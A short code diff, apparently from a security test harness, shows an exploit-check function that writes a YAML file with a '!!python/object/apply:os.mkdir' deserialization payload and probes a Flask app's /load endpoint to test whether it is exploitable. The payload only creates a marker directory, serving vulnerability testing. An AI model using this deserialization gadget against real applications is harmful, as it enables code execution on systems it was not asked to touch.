@@ -36,10 +36,9 @@ def exploit(ctx):
         f.write(DOC)
     with open("evil.yaml", "w") as f:
         f.write(f'!!python/object/apply:os.mkdir ["{marker}"]\n')
-    module, fail = dgcheck.load_or_fail(ctx, "app")
+    client, fail = dgcheck.load_client(ctx)
     if fail:
         return dgcheck.exploit_result([], "not exploitable: " + fail["detail"])
-    client = dgcheck.flask_client(module)
     sanity, err = dgcheck.attempt(lambda: client.get("/load?filename=ok.yaml"))
     notes = [f"sanity: {err or sanity.status_code}"]
     findings = []
